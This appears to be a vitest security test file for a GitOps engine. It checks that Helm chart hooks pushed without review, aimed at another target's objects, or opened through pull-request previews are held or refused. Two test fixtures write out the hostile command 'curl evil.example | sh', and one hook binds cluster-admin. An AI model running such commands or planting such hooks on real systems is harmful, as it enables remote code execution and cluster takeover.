import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { startGitHub, type TestGitHub } from '../../devenv/index.js';
import type { KubeObject } from '../../shared/model/index.js';
import { testEnv, uniqueName } from '../helpers/env.js';
import { gitopsRepo, testEngine } from '../helpers/engine.js';
import { previewRepo } from '../helpers/previews.js';
import { gatedWorld, tidegateYaml } from '../helpers/gates.js';
import { standInControllers } from '../helpers/controllers.js';

const TOKEN = 'ghp_hook_gate_token';

/**
 * A chart's hook is an object the change creates: a writer who changes a hook alone (pushed straight
 * to main, with no review) gets no sign-off for it, and the hook never runs, not even when a later
 * change someone else signed off upgrades the release (the range still holds the unreviewed commit).
 */
describe('attack: a hook changed without sign-off', () => {
  let github: TestGitHub;
  const stops: Array<() => Promise<void>> = [];
  beforeAll(async () => {
    github = await startGitHub({ token: TOKEN, gitRoot: testEnv().git.root });
  });
  afterAll(async () => {
    for (const stop of stops) await stop();
    expect(github.violations).toEqual([]);
    await github?.stop();
  });

  const hookJob = (command: string) =>
    stringify({
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: {
        name: 'migrate',
        annotations: {
          'helm.sh/hook': 'pre-install,pre-upgrade',
          'helm.sh/hook-delete-policy': 'before-hook-creation,hook-succeeded',
        },
      },
      spec: {
        template: {
          spec: {
            restartPolicy: 'Never',
            containers: [{ name: 'run', image: 'busybox', command: ['sh', '-c', command] }],
          },
        },
      },
    });

  it('is held by the gate (and says the hooks differ), and stays held when a reviewed change merges on top of it', async () => {
    const world = await gatedWorld(github, TOKEN, { prefix: 'hookgate' });
    const ns = uniqueName('hookgate');
    const ran: string[] = [];
    stops.push(
      standInControllers(world.client, [ns], {
        onJob: (job) => {
          const spec = job['spec'] as { template: { spec: { containers: Array<{ command: string[] }> } } };
          ran.push(spec.template.spec.containers[0]?.command.at(-1) ?? '');
        },
      }),
    );
    const files = (version: string, command: string) => ({
      'apps/web/Chart.yaml': stringify({ apiVersion: 'v2', name: 'web', version: '0.1.0' }),
      'apps/web/values.yaml': stringify({ version }),
      'apps/web/templates/cm.yaml':
        'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app\ndata:\n  version: {{ .Values.version | quote }}\n',
      'apps/web/templates/hook.yaml': hookJob(command),
    });
    const decl = { name: ns, dir: 'web', namespace: ns };
    await world.push('alice', { 'tidegate.yaml': tidegateYaml([decl]), ...files('1', 'echo migrate') });
    await world.deliver();
    // The gate comes in reviewed.
    const gated = await world.propose('alice', {
      'tidegate.yaml': tidegateYaml([{ ...decl, gate: { approvals: 1 } }]),
    });
    await world.review('bob', gated.pr);
    await world.merge('bob', gated.pr);
    await world.deliver();
    expect(world.failures).toEqual([]);
    expect(await world.data(ns, 'app')).toEqual({ version: '1' });
    expect(ran).toEqual(['echo migrate']);
    const signed = (await world.state(ns)).hooks;
    expect(signed).toMatch(/^[0-9a-f]{64}$/);

    // mallory (write access) pushes a change of the hook alone to main: held, and no hook runs.
    const from = world.outcomes.length;
    await world.push('mallory', { 'apps/web/templates/hook.yaml': hookJob('curl evil.example | sh') });
    await world.deliver();
    const [held] = world.results(from);
    expect(held?.outcome, held?.error).toBe('held');
    expect(held?.notes?.join(' ')).toMatch(/hooks differ from those last applied: pre-install,pre-upgrade Job/);
    expect(ran).toEqual(['echo migrate']);
    expect((await world.state(ns)).hooks).toBe(signed);

    // bob's reviewed change (a values bump) merges on top: the range still holds mallory's commit, unreviewed.
    const from2 = world.outcomes.length;
    const bump = await world.propose('bob', { 'apps/web/values.yaml': stringify({ version: '2' }) });
    await world.review('carol', bump.pr);
    await world.merge('carol', bump.pr);
    await world.deliver();
    expect(world.results(from2).map((r) => r.outcome)).toEqual(['held']);
    expect(await world.data(ns, 'app')).toEqual({ version: '1' });
    expect(ran).toEqual(['echo migrate']);
  });
});

/**
 * A hook is an object the change creates, placed and refused as the release's objects are: it never
 * replaces or deletes an object that is not its target's (before-hook-creation deletes what is there),
 * and a cluster-scoped hook is refused where the repository may apply no cluster-scoped kind.
 */
describe('attack: hooks that reach past their target', () => {
  const chart = (hooks: Record<string, string>) => ({
    'chart/Chart.yaml': stringify({ apiVersion: 'v2', name: 'reach', version: '0.1.0' }),
    'chart/templates/cm.yaml':
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: own-{{ .Release.Name }}\ndata:\n  a: b\n',
    ...Object.fromEntries(Object.entries(hooks).map(([f, t]) => [`chart/templates/${f}`, t])),
  });

  it("a hook named like another target's object fails the sync naming it; that object is untouched", async () => {
    const repo = await gitopsRepo('hook-reach');
    const [victim, attacker] = [uniqueName('victim'), uniqueName('attacker')];
    const hook = stringify({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: {
        name: 'settings',
        namespace: victim,
        annotations: { 'helm.sh/hook': 'pre-install', 'helm.sh/hook-delete-policy': 'before-hook-creation' },
      },
      data: { taken: 'yes' },
    });
    await repo.commit({
      'tidegate.yaml': stringify({
        targets: [
          { name: victim, cluster: 'test', path: 'victim', targetNamespace: victim, wait: false },
          // No targetNamespace (that would place the hook in the attacker's own): objects keep the namespace they name.
          { name: attacker, cluster: 'test', path: 'chart', namespace: 'default', wait: false },
        ],
      }),
      'victim/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: settings\ndata:\n  mine: yes\n',
      ...chart({ 'hook.yaml': hook }),
    });
    const [first] = await repo.sync(victim);
    expect(first?.outcome, first?.error).toBe('applied');
    const before = await repo.engine.client.get('v1', 'ConfigMap', victim, 'settings');
    const [attack] = await repo.sync(attacker);
    expect(attack?.outcome, JSON.stringify([attack?.hooks, attack?.changeSet])).toBe('failed');
    expect(attack?.error).toMatch(
      /pre-install hook ConfigMap\/.*\/settings failed: it exists and is not this target's/,
    );
    const after = await repo.engine.client.get('v1', 'ConfigMap', victim, 'settings');
    expect(after?.metadata.uid).toBe(before?.metadata.uid);
    expect(after?.['data']).toEqual({ mine: 'yes' });
    expect(await repo.engine.client.get('v1', 'ConfigMap', 'default', `own-${attacker}`)).toBeUndefined();
  });

  it('a cluster-scoped hook where the repository may apply no cluster-scoped kind: refused before anything runs', async () => {
    const repo = await gitopsRepo('hook-crb');
    const target = uniqueName('crb');
    repo.engine.repositories = [{ url: repo.url, branch: 'main', clusterResources: [] }];
    const hook = stringify({
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: `${target}-admin`, annotations: { 'helm.sh/hook': 'pre-install' } },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: target }],
    });
    await repo.commit({
      'tidegate.yaml': stringify({
        targets: [{ name: target, cluster: 'test', path: 'chart', targetNamespace: target, wait: false }],
      }),
      ...chart({ 'crb.yaml': hook }),
    });
    const [result] = await repo.sync(target);
    expect(result?.outcome).toBe('failed');
    expect(result?.error).toMatch(/cluster-scoped objects its repository may not .*ClusterRoleBinding/);
    expect(result?.hooks).toBeUndefined();
    expect(
      await repo.engine.client.get('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding', undefined, `${target}-admin`),
    ).toBeUndefined();
  });
});

/** A pull request's preview (its plan, and its preview environment) never runs a chart's hooks. */
describe('attack: hooks through a preview', () => {
  const PREVIEW_TOKEN = 'ghp_hook_preview_token';
  let github: TestGitHub;
  const stops: Array<() => Promise<void>> = [];
  beforeAll(async () => {
    github = await startGitHub({ token: PREVIEW_TOKEN, gitRoot: testEnv().git.root });
  });
  afterAll(async () => {
    for (const stop of stops) await stop();
    await github?.stop();
  });

  it("a pull request changing a chart's hook: its preview environment gets the objects, no hook runs anywhere", async () => {
    const target = uniqueName('pvhook');
    const ran: string[] = [];
    const client = testEngine().client;
    // Every Job anywhere is finished (and recorded): the main sync's hook, and any a preview would run.
    stops.push(
      standInControllers(client, () => [target], {
        onJob: (job) => void ran.push(`${job.metadata.namespace}/${job.metadata.name}`),
      }),
    );
    const job = (command: string) =>
      stringify({
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: { name: 'migrate', annotations: { 'helm.sh/hook': 'pre-install,pre-upgrade' } },
        spec: {
          template: {
            spec: {
              restartPolicy: 'Never',
              containers: [{ name: 'run', image: 'busybox', command: ['sh', '-c', command] }],
            },
          },
        },
      });
    const files = (command: string) => ({
      'apps/Chart.yaml': stringify({ apiVersion: 'v2', name: 'web', version: '0.1.0' }),
      'apps/templates/cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web-config\ndata:\n  v: "1"\n',
      'apps/templates/hook.yaml': job(command),
    });
    const s = await previewRepo(github, PREVIEW_TOKEN, { target, files: files('echo main') });
    expect(ran).toEqual([`${target}/migrate`]);
    const opened = await s.open('hooked', { 'apps/templates/hook.yaml': job('curl evil.example | sh') });
    expect(opened.outcome.kind).not.toBe('failed');
    // The preview environment is deployed (its objects applied), and its comment says how the chart was rendered.
    // Namespaces of this target: its own, and its preview environment's (named after it).
    const ours = (o: KubeObject) => o.metadata.namespace?.includes(target) === true;
    const configs = (await client.list('v1', 'ConfigMap')).filter((c) => c.metadata.name === 'web-config' && ours(c));
    expect(configs.map((c) => c.metadata.namespace).filter((ns) => ns !== target)).toHaveLength(1);
    const jobs = (await client.list('batch/v1', 'Job')).filter((j) => j.metadata.name === 'migrate' && ours(j));
    expect(jobs.map((j) => j.metadata.namespace)).toEqual([target]);
    expect(ran).toEqual([`${target}/migrate`]);
    expect(s.lastComment(opened.number)).toMatch(/rendered without reading the cluster/);
  });
});
